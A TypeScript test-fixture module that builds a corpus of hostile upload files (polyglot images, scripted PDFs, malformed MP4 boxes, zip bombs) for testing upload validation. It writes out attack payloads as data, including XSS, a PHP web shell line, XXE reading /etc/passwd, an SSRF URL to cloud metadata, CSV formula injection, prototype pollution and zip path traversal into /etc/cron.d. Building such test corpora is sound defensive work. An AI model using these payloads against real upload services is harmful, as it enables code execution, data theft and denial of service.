import { randomBytes } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import { anMp4 } from '@diyar/api/testing/mp4';
import { pngOf } from '@diyar/api/testing/png';
import { aZip } from '@diyar/api/testing/zip';
import sharp from 'sharp';

/** What the first bytes say. */
export type Kind = 'pdf' | 'jpeg' | 'png' | 'webp' | 'gif' | 'mp4' | 'zip' | 'text' | 'other';
export interface SmallHostileFile {
  name: string;
  kind: Kind;
  bytes: Buffer;
  /** A picture or a film that can be shown, whatever hangs on it. */
  isSound?: boolean;
}

const SCRIPT = '<script>alert(document.domain)</script>';
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const latin = (text: string) => Buffer.from(text, 'latin1');
const pdf = (objects: string) =>
  latin(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${objects}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  );
const box = (type: string, body: Buffer, length = body.length + 8) => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(length);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};
const FTYP = box('ftyp', latin('isom\0\0\x02\0isommp41'));
const nested = (depth: number) => {
  let inner = Buffer.alloc(0);
  for (let n = 0; n < depth; n++) inner = box('moov', inner);
  return inner;
};
const plain = () => sharp({ create: { width: 400, height: 300, channels: 3, background: '#c9731c' } });
/** A thousand frames, each of another colour. */
const frames = () => {
  const pixels = Buffer.alloc(1_000 * 16 * 16 * 3);
  for (let n = 0; n < 1_000; n++) pixels.fill(n % 251, n * 768, (n + 1) * 768);
  return sharp(pixels, { raw: { width: 16, height: 16_000, channels: 3, pageHeight: 16 } });
};

const PAPERS = (): SmallHostileFile[] =>
  [
    ['a PDF that runs a script when it opens', pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')],
    ['a PDF that starts a program', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
    ['a PDF with a file in it', pdf('/Names<</EmbeddedFiles<</Names[(x.exe)3 0 R]>>>>')],
    ['a PDF with a form of XML', pdf('/AcroForm<</XFA(<script contentType="application/x-javascript">1</script>)>>')],
    ['a PDF that opens an address', pdf('/OpenAction<</S/URI/URI(https://evil.example)>>')],
    ['a PDF that is a page too', latin(`%PDF-1.7\n${HTML}`)],
    ['a PDF of nothing', latin('%PDF-')],
    ['a PDF and a ZIP', Buffer.concat([pdf(''), aZip({ 'x.html': Buffer.from(HTML) })])],
  ].map(([name, bytes]) => ({ name: String(name), kind: 'pdf', bytes: bytes as Buffer }));

const TEXTS: Record<string, string> = {
  'an SVG': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`,
  'a page': HTML,
  'a page behind spaces': `${' '.repeat(600)}${HTML}`,
  'a page before its PDF': `${HTML}%PDF-1.7\n%%EOF`,
  'a billion laughs': '<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]><a>&c;</a>',
  'an entity from outside': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  PHP: '<?php system($_GET["c"]); ?>',
  'a shell script': '#!/bin/sh\nid\n',
  PostScript: '%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n',
  'a drawing of ImageMagick': 'push graphic-context\nfill "url(https://evil.example/x|id)"\npop graphic-context\n',
  'a playlist': '#EXTM3U\n#EXTINF:9,\nhttp://169.254.169.254/latest\n',
  'a manifest of DASH': '<MPD><BaseURL>file:///etc/passwd</BaseURL></MPD>',
  'a shortcut': '[InternetShortcut]\nURL=file:///etc/passwd\n',
  formulas: "=cmd|'/C calc'!A0,@SUM(1+1)\n+1,-1\n",
  'names of prototypes': '__proto__,constructor,toString\n1,2,3\n',
  JSON: '{"__proto__":{"isAdmin":true}}\n',
};
const OTHERS = (): Record<string, Buffer> => ({
  'a page in UTF-16': Buffer.from(`\ufeff${HTML}`, 'utf16le'),
  'an SVG in gzip': gzipSync(TEXTS['an SVG'] ?? ''),
  'a program of Windows': Buffer.concat([latin('MZ\x90\0'), randomBytes(600)]),
  'a program of Linux': Buffer.concat([latin('\x7fELF\x02\x01\x01\0'), randomBytes(600)]),
  WebAssembly: latin('\0asm\x01\0\0\0'),
  Flash: latin('FWS\x08\x20\0\0\0'),
  'a TIFF': latin('II*\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0'),
  'a bitmap': Buffer.concat([latin('BM'), Buffer.alloc(80)]),
  'an icon': Buffer.concat([latin('\0\0\x01\0\x01\0'), Buffer.alloc(80)]),
  'a PSD': Buffer.concat([latin('8BPS\0\x01'), Buffer.alloc(80)]),
  'a JPEG 2000': latin('\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 '),
  'a JPEG XL': latin('\0\0\0\x0cJXL \r\n\x87\n\0\0\0\x14ftypjxl '),
  'an AVIF': latin('\0\0\0\x20ftypavif\0\0\0\0avifmif1miafMA1B'),
  'a HEIC': latin('\0\0\0\x18ftypheic\0\0\0\0heicmif1'),
  'a Matroska': latin('\x1aE\xdf\xa3\x01\0\0\0\0\0\0\x1fB\x86\x81\x01'),
  'an AVI': latin('RIFF\x10\0\0\0AVI LIST\0\0\0\0'),
  'a transport stream': Buffer.concat([latin('G@\0\x10'), Buffer.alloc(184, 0xff), latin('G@\0\x10')]),
  nothing: Buffer.alloc(0),
  'one byte': latin('%'),
  'fifteen bytes': latin('<svg onload=1/>'),
  zeros: Buffer.alloc(4_096),
  ones: Buffer.alloc(4_096, 0xff),
  noise: Buffer.concat([Buffer.from([1]), randomBytes(4_095)]),
});
const FILMS = (): SmallHostileFile[] =>
  (
    [
      ['a MOV', anMp4({ brand: 'qt  ' })],
      ['a film in fragments', anMp4({ fragmented: true })],
      ['a film whose pictures lie elsewhere', anMp4({ foreign: 'file:///etc/passwd' })],
      ['a film of an unknown coding', anMp4({ codec: 'evil' })],
      ['a film whose table claims too much', anMp4({ claimedChunks: 2_000 })],
      ['half a film', anMp4().subarray(0, 1_500)],
      ['a film without a head', Buffer.concat([FTYP, box('mdat', Buffer.alloc(2_000))])],
      ['a head and nothing', FTYP],
      ['a page that begins like a film', Buffer.concat([latin('\0\0\0\x20ftypmp42'), latin(HTML)])],
      ['boxes in boxes', Buffer.concat([FTYP, nested(10_000)])],
      ['a box of no length', Buffer.concat([FTYP, box('moov', Buffer.alloc(40), 0)])],
      ['a box of 2^63', Buffer.concat([FTYP, box('moov', Buffer.alloc(40, 0x7f), 1)])],
      ['a box shorter than its name', Buffer.concat([FTYP, box('moov', Buffer.alloc(40), 3)])],
      ['a film of no time', anMp4({ seconds: 0 })],
      ['a film of a day', anMp4({ seconds: 86_400 })],
    ] as const
  ).map(([name, bytes]) => ({ name, kind: 'mp4' as const, bytes }));

/** Small files that are not what they say, hold what runs, or break off: nearly every upload must refuse nearly all of them. */
export async function smallHostileFiles(): Promise<SmallHostileFile[]> {
  const [jpeg, png, webp, gif] = await Promise.all([
    plain().jpeg({ quality: 100 }).toBuffer(),
    plain().png().toBuffer(),
    plain().webp().toBuffer(),
    plain().gif().toBuffer(),
  ]);
  const moving = await frames().webp({ loop: 0 }).toBuffer();
  const badSum = Buffer.from(png);
  badSum.writeUInt32BE(0, png.length - 20);
  const zip = aZip({ '../../../../etc/cron.d/x': Buffer.from('x'), 'x.html': Buffer.from(HTML) });
  const pictures: SmallHostileFile[] = [
    { name: 'a JPEG and a page', kind: 'jpeg', bytes: Buffer.concat([jpeg, latin(HTML)]), isSound: true },
    { name: 'a JPEG and a ZIP', kind: 'jpeg', bytes: Buffer.concat([jpeg, zip]), isSound: true },
    { name: 'a JPEG and a PDF', kind: 'jpeg', bytes: Buffer.concat([jpeg, pdf('')]), isSound: true },
    { name: 'a PNG and a page', kind: 'png', bytes: Buffer.concat([png, latin(HTML)]), isSound: true },
    { name: 'a WebP and a page', kind: 'webp', bytes: Buffer.concat([webp, latin(HTML)]), isSound: true },
    { name: 'a GIF and a page', kind: 'gif', bytes: Buffer.concat([gif, latin(HTML)]), isSound: true },
    { name: 'a GIF that is a script', kind: 'gif', bytes: latin('GIF89a/*\0\0*/=1;alert(1)') },
    { name: 'a page that begins like a JPEG', kind: 'jpeg', bytes: latin(`\xff\xd8\xff\xe0${HTML}`) },
    { name: 'a page that begins like a PNG', kind: 'png', bytes: latin(`\x89PNG\r\n\x1a\n${HTML}`) },
    { name: 'half a JPEG', kind: 'jpeg', bytes: jpeg.subarray(0, jpeg.length >> 1) },
    { name: 'half a PNG', kind: 'png', bytes: png.subarray(0, png.length >> 1) },
    { name: 'half a WebP', kind: 'webp', bytes: webp.subarray(0, webp.length >> 1) },
    { name: 'a PNG whose sum is wrong', kind: 'png', bytes: badSum },
    { name: 'a PNG of 30,000 × 30,000', kind: 'png', bytes: pngOf(30_000, 30_000, deflateSync(Buffer.alloc(1_000))) },
    { name: 'a PNG of one pixel', kind: 'png', bytes: pngOf(1, 1, deflateSync(Buffer.alloc(4))) },
    { name: 'a WebP of 1,000 frames', kind: 'webp', bytes: moving },
  ];
  return [
    ...PAPERS(),
    ...Object.entries(TEXTS).map(([name, text]) => ({ name, kind: 'text' as const, bytes: Buffer.from(text) })),
    ...Object.entries(OTHERS()).map(([name, bytes]) => ({ name, kind: 'other' as const, bytes })),
    ...FILMS(),
    ...pictures,
    { name: 'a ZIP whose names climb', kind: 'zip', bytes: zip },
    { name: 'an empty ZIP', kind: 'zip', bytes: aZip({}) },
    { name: 'half a ZIP', kind: 'zip', bytes: zip.subarray(0, zip.length >> 1) },
    {
      name: 'a workbook with macros',
      kind: 'zip',
      bytes: aZip({ 'xl/vbaProject.bin': Buffer.alloc(200), 'xl/worksheets/sheet1.xml': latin('<worksheet/>') }),
    },
    {
      name: 'a ZIP that unpacks to 200 MB',
      kind: 'zip',
      bytes: aZip({ 'xl/worksheets/sheet1.xml': Buffer.alloc(209_715_200) }),
    },
  ];
}
